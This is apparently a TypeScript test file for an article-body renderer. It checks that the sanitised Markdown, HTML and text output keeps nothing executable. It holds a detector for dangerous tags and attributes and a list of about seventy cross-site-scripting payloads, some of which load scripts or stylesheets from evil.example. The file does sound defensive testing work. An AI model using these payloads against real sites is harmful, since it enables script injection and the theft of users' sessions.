import { existsSync, readFileSync } from "node:fs";
import path from "node:path";
import fc from "fast-check";
import type { Element } from "hast";
import { fromHtml } from "hast-util-from-html";
import { visit } from "unist-util-visit";
import { describe, expect, it } from "vitest";
import type { Format } from "../../src/article/article.ts";
import { openingOf, renderBody } from "../../src/article/body.ts";
import { BeyondBound } from "../../src/article/bounds/bounds.ts";
import { slowness } from "../linear.ts";

const FORMATS: readonly Format[] = ["markdown", "html", "text"];
const asWritten = (address: string) => address;

/** Whatever in a piece of HTML could run, load or take input. */
function dangersIn(html: string): string[] {
	const dangers: string[] = [];
	visit(fromHtml(html, { fragment: true }), "element", (element: Element) => {
		const { tagName, properties } = element;
		if (
			/^(script|style|iframe|frame|object|embed|form|input|button|textarea|select|base|meta|link|svg|math|template|noscript|title)$/.test(
				tagName,
			)
		)
			dangers.push(`<${tagName}>`);
		for (const [name, value] of Object.entries(properties)) {
			if (/^on|^(style|srcDoc|srcSet|action|formAction|xLinkHref|ping|http-?equiv|background|autoPlay|autoFocus|tabIndex)$/i.test(name))
				dangers.push(`${tagName} ${name}`);
			if (!/^(href|src|cite|poster|longDesc|data)$/.test(name)) continue;
			const { protocol } = new URL(String(value), "https://paper.example/");
			const isPicture = tagName === "img" && /^data:image\/(png|gif|jpeg|webp);/.test(String(value));
			if (!/^(https?|mailto|tel|ftp):$/.test(protocol) && !isPicture) dangers.push(`${tagName} ${name}=${String(value)}`);
		}
	});
	return dangers;
}

const PAYLOADS: readonly string[] = [
	"<script>alert(1)</script>",
	"<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
	"<scr<script>ipt>alert(1)</scr</script>ipt>",
	"<script\n>alert(1)</script\n>",
	"<img src=x onerror=alert(1)>",
	"<img src=x oneonerrorrror=alert(1)>",
	"<img/src=x/onerror=alert(1)>",
	'<img """><script>alert(1)</script>">',
	"<img src=`javascript:alert(1)`>",
	"<img src=x srcset='javascript:alert(1) 2x'>",
	"<image href=javascript:alert(1)>",
	"<svg onload=alert(1)>",
	"<svg><script>alert(1)</script></svg>",
	"<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
	"<svg><style><img src=x onerror=alert(1)></style></svg>",
	"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
	"<math href='javascript:alert(1)'>x</math>",
	"<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
	"<a href='javascript:alert(1)'>x</a>",
	"<a href=' \u0001javascript:alert(1)'>x</a>",
	"<a href='java\nscript:alert(1)'>x</a>",
	"<a href='JaVaScRiPt:alert(1)'>x</a>",
	"<a href='&#x6A;avascript:alert(1)'>x</a>",
	"<a href='javascript&colon;alert(1)'>x</a>",
	"<a href='vbscript:msgbox(1)'>x</a>",
	"<a href='data:text/html,<script>alert(1)</script>'>x</a>",
	"<a href='x' onclick=alert(1) onmouseover='alert(2)' style='background:url(javascript:alert(3))'>x</a>",
	"<a href='x' ping='https://evil.example/'>x</a>",
	"<iframe src='javascript:alert(1)'></iframe>",
	"<iframe srcdoc='<script>alert(1)</script>'></iframe>",
	"<iframe src='data:text/html,x'></iframe>",
	"<embed src='javascript:alert(1)'>",
	"<object data='javascript:alert(1)'></object>",
	"<form action='javascript:alert(1)'><input name=a autofocus onfocus=alert(1)><button formaction='javascript:alert(1)'>x</button></form>",
	"<base href='https://evil.example/'>",
	"<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
	"<link rel=stylesheet href='https://evil.example/x.css'>",
	"<style>@import 'https://evil.example/x.css';</style>",
	"<p style='background:url(javascript:alert(1))'>x</p>",
	"<body onload=alert(1)>",
	"<html onmouseover=alert(1)>",
	"<video poster='javascript:alert(1)' src='javascript:alert(1)' onerror=alert(1) autoplay></video>",
	"<audio><source src=x onerror=alert(1)></audio>",
	"<details open ontoggle=alert(1)>x</details>",
	"<marquee onstart=alert(1)>x</marquee>",
	"<blockquote cite='javascript:alert(1)'>x</blockquote>",
	"<img longdesc='javascript:alert(1)' src=a.jpg>",
	"<xss id=x tabindex=1 onfocus=alert(1)>",
	"<template><script>alert(1)</script></template>",
	"<textarea><script>alert(1)</script></textarea>",
	"<title><script>alert(1)</script></title>",
	"<plaintext><script>alert(1)</script>",
	"<xmp><script>alert(1)</script></xmp>",
	"<!--><script>alert(1)</script>-->",
	"<![CDATA[<script>alert(1)</script>]]>",
	"<?xml version='1.0'?><script>alert(1)</script>",
	"[x](javascript:alert(1))",
	"[x](JaVaScRiPt:alert(1))",
	"[x](java&#10;script:alert(1))",
	"[x](data:text/html;base64,PHNjcmlwdD4=)",
	"[x](vbscript:x 'title\" onmouseover=alert(1)')",
	'![x](x.jpg "t\\" onerror=alert(1)")',
	"![x](data:image/svg+xml;base64,PHN2Zz4=)",
	"[a]: javascript:alert(1)\n\n[a]",
	"<javascript:alert(1)>",
	"```\n<script>alert(1)</script>\n```",
	'```"onmouseover=alert(1)\nx\n```',
	"`<script>alert(1)</script>`",
	"| a |\n|---|\n| <img src=x onerror=alert(1)> |",
	"&lt;script&gt;alert(1)&lt;/script&gt;",
];

describe("acronyms", () => {
	it("keep their meaning", () => {
		expect(renderBody('<acronym title="Rich Site Summary">RSS</acronym>', "html", (address) => address)).toBe(
			'<abbr title="Rich Site Summary">RSS</abbr>',
		);
	});
});

describe("renderBody", () => {
	describe.each(FORMATS)("as %s", (format) => {
		it.each(PAYLOADS)("runs nothing of %j", (payload) => {
			expect(dangersIn(renderBody(payload, format, asWritten))).toEqual([]);
			expect(dangersIn(renderBody(`Before ${payload} after <b>it</b>.\n\n${payload}\n`, format, asWritten))).toEqual([]);
		});

		it("runs nothing of payloads that are put together at random", () => {
			const pieces = PAYLOADS.flatMap((payload) => payload.split(/(?<=[<>='" ])/));
			fc.assert(
				fc.property(fc.array(fc.constantFrom(...pieces, "\n\n", "<", ">", "&", "`"), { maxLength: 40 }), (parts) => {
					expect(dangersIn(renderBody(parts.join(""), format, asWritten))).toEqual([]);
				}),
				{ numRuns: 500 },
			);
		});
	});

	const blns = path.resolve(import.meta.dirname, "../../../shared/corpora/blns.json");
	it.skipIf(!existsSync(blns))("runs nothing of the big list of naughty strings", () => {
		const strings = JSON.parse(readFileSync(blns, "utf8")) as string[];
		expect(strings.length).toBeGreaterThan(400);
		for (const format of FORMATS) {
			for (const text of strings) expect(dangersIn(renderBody(text, format, asWritten)), text).toEqual([]);
		}
	});

	it("would be found out by these checks", () => {
		const found = PAYLOADS.filter((payload) => dangersIn(payload).length > 0);
		expect(found.length).toBeGreaterThan(40);
	});

	it.each<[string, Format, string]>([
		["{{ 7*7 }} {% raw %}x{% endraw %} ${x} #{y}", "markdown", "<p>{{ 7*7 }} {% raw %}x{% endraw %} ${x} #{y}</p>"],
		["{{ 7*7 }} {% raw %} ${x}", "html", "{{ 7*7 }} {% raw %} ${x}"],
		["{{ 7*7 }} {% raw %} ${x}", "text", "<p>{{ 7*7 }} {% raw %} ${x}</p>"],
		["<% a %>", "markdown", "<p>&lt;% a %&gt;</p>"],
		["<% a %>", "text", "<p>&lt;% a %&gt;</p>"],
		["<b>x</b> {{ 7*7 }}", "markdown", "<p><b>x</b> {{ 7*7 }}</p>"],
		["{{ '<b>' }}", "text", "<p>{{ '&lt;b&gt;' }}</p>"],
		['[gallery ids="1,2"]', "markdown", "<p>[gallery ids=&quot;1,2&quot;]</p>"],
	])("shows %j in %s as typed", (text, format, html) => {
		expect(renderBody(text, format, asWritten).trim()).toBe(html);
	});

	it.each<[string, Format, string]>([
		["One.\n\nTwo & <three>.", "text", "<p>One.</p>\n<p>Two &amp; &lt;three&gt;.</p>\n"],
		["*One* **two** [three](a.html)", "markdown", '<p><em>One</em> <strong>two</strong> <a href="a.html">three</a></p>\n'],
		["One\ntwo", "markdown", "<p>One\ntwo</p>\n"],
		["it&#146;s &#147;quoted&#x94; &#150; `&#146;`", "markdown", "<p>it’s “quoted” – <code>&amp;#146;</code></p>\n"],
		["<b>it&#146;s</b>", "html", "<b>it’s</b>"],
		[
			"| a |\n|--:|\n| b |",
			"markdown",
			'<table>\n<thead>\n<tr>\n<th class="align-right">a</th>\n</tr>\n</thead>\n<tbody>\n<tr>\n<td class="align-right">b</td>\n</tr>\n</tbody>\n</table>\n',
		],
		["<p class='lead' style='color:red'>x</p>", "html", "<p>x</p>"],
		["<p>open <b>and", "html", "<p>open <b>and</b></p>"],
		["<font color=red>kept</font><center>too</center>", "html", "kepttoo"],
		[
			"<figure><img src=a.jpg><figcaption>c</figcaption></figure>",
			"html",
			'<figure><img src="a.jpg" alt=""><figcaption>c</figcaption></figure>',
		],
		["<img alt=x>after", "html", "after"],
		["<video src=a.mp4 autoplay></video>", "html", '<video src="a.mp4" controls></video>'],
		["<a name=here>x</a>", "html", '<a id="here">x</a>'],
		["<a id=there name=here>x</a>", "html", '<a id="there">x</a>'],
		[
			"<iframe src='//video.example/1' title='A film'></iframe>",
			"html",
			'<figure class="embed"><p><a href="https://video.example/1">A film</a></p><figcaption>video.example</figcaption></figure>',
		],
		[
			"<embed src='https://video.example/1'>",
			"html",
			'<figure class="embed"><p><a href="https://video.example/1">https://video.example/1</a></p></figure>',
		],
		["<p>a</p><script>b</script><style>c</style><p>d</p>", "html", "<p>a</p><p>d</p>"],
		["<time datetime=1957-03>March</time>", "html", '<time datetime="1957-03">March</time>'],
		["<p lang=ar dir=rtl>x</p>", "html", '<p lang="ar" dir="rtl">x</p>'],
		["", "markdown", ""],
		["", "html", ""],
		["", "text", ""],
	])("renders %j in %s", (text, format, html) => {
		expect(renderBody(text, format, asWritten)).toBe(html);
	});

	it.each<[string, Format, string[]]>([
		["[a](b.md) ![c](d.jpg)", "markdown", ["b.md", "d.jpg"]],
		["[a](b.md) ![c](d.jpg) <b>x</b>", "markdown", ["b.md", "d.jpg"]],
		[
			"<a href=b.md><img src=d.jpg></a><video src=e.mp4 poster=f.jpg></video><blockquote cite=g.html>x</blockquote>",
			"html",
			["b.md", "d.jpg", "e.mp4", "f.jpg", "g.html"],
		],
		["https://a.example/", "text", []],
	])("has every address of %j in %s rewritten, each once", (text, format, addresses) => {
		const asked: string[] = [];
		const html = renderBody(text, format, (address) => {
			asked.push(address);
			return `/to/${address}`;
		});
		expect(asked.toSorted()).toEqual(addresses);
		for (const address of addresses) expect(html).toContain(`"/to/${address}"`);
	});

	it.each(["<b>", "<div>", "<blockquote>"])("refuses 4,000 %s within each other, and renders 400", (tag) => {
		expect(renderBody(`${tag.repeat(400)}deep`, "html", asWritten)).toContain("deep");
		expect(() => renderBody(`${tag.repeat(4_000)}deep`, "html", asWritten)).toThrow(BeyondBound);
	});

	it("leaves out pictures without an address, however many stand beside each other", () => {
		expect(renderBody(`<p>a${"<img alt=x>".repeat(20_000)}<img src="b.png">c</p>`, "html", asWritten)).toBe(
			'<p>a<img src="b.png" alt="">c</p>',
		);
	});

	it.each(["x ", "[", "*a ", "<a ", "> ", "`", "![a](", "&#"])("renders a long line of %j in linear time", async (piece) => {
		const render = (text: string) => expect(renderBody(text, "markdown", asWritten)).not.toBe("");
		expect(await slowness(render, piece, 20_000 * piece.length)).toBeUndefined();
	});
});

describe("openingOf", () => {
	it.each<[string, Format, string]>([
		[
			"# Heading\n\n![picture](a.jpg)\n\n*First* [words](a.html) &amp; more.\n\nSecond.\n\nThird.",
			"markdown",
			"First words & more. Second.",
		],
		["<h1>Heading</h1><p>First <b>words</b>.</p>", "html", "Heading First words."],
		["First\nwords.\n\nSecond.", "text", "First words. Second."],
		["<script>alert(1)</script><p>Words.</p>", "html", "Words."],
		["{{ 7*7 }} first", "markdown", "first"],
		[
			'[caption id="a" align="right" width="300"]![Boat](b.jpg) A boat[/caption]\n\nFirst words.\n\nSecond.',
			"markdown",
			"First words. Second.",
		],
		['<p>[caption id="a" caption="At work"]<img src="b.jpg">[/caption]</p><p>First.</p>', "html", "First."],
		[
			'[caption id="a"]\n\nFirst [gallery] words. [audio src="a.mp3" /]\n[my-box color="red"]In a box.[/my-box]',
			"markdown",
			"First words. In a box.",
		],
		["{% include top.html %}\n\nFirst{{< figure src=a >}} words {{ site.title }}.", "markdown", "First words ."],
		[
			"**Nickname:**Geeko and ** Who? ** asks `[gallery]` and `{{ this }}`.",
			"markdown",
			"Nickname:Geeko and Who? asks [gallery] and {{ this }}.",
		],
		["“It was [the mayor],” she said [1], [sic]. [gallery](a.html)", "markdown", "“It was [the mayor],” she said [1], [sic]. gallery"],
		["Five ** two is 25, and [gallery] is written so.", "text", "Five ** two is 25, and [gallery] is written so."],
		["", "markdown", ""],
		["![picture](a.jpg)", "markdown", ""],
		["a < b & c", "text", "a < b & c"],
	])("of %j in %s is %j", (body, format, opening) => {
		expect(openingOf(body, format)).toBe(opening);
	});

	it("undoes the entities that an HTML story is written with", () => {
		expect(openingOf("<p>The caf&eacute;&#8217;s &ldquo;last&rdquo; day</p>", "html")).toBe("The café’s “last” day");
	});

	it.each(FORMATS)("is at most 200 characters long for any text in %s", (format) => {
		fc.assert(
			fc.property(fc.string({ unit: "grapheme", minLength: 150, maxLength: 3_000 }), (body) => {
				const opening = openingOf(body, format);
				expect(opening.length).toBeLessThanOrEqual(200);
				expect(opening).not.toMatch(/[\n\t]|^\s|\s$/);
				expect(opening.isWellFormed()).toBe(true);
			}),
		);
	});
});
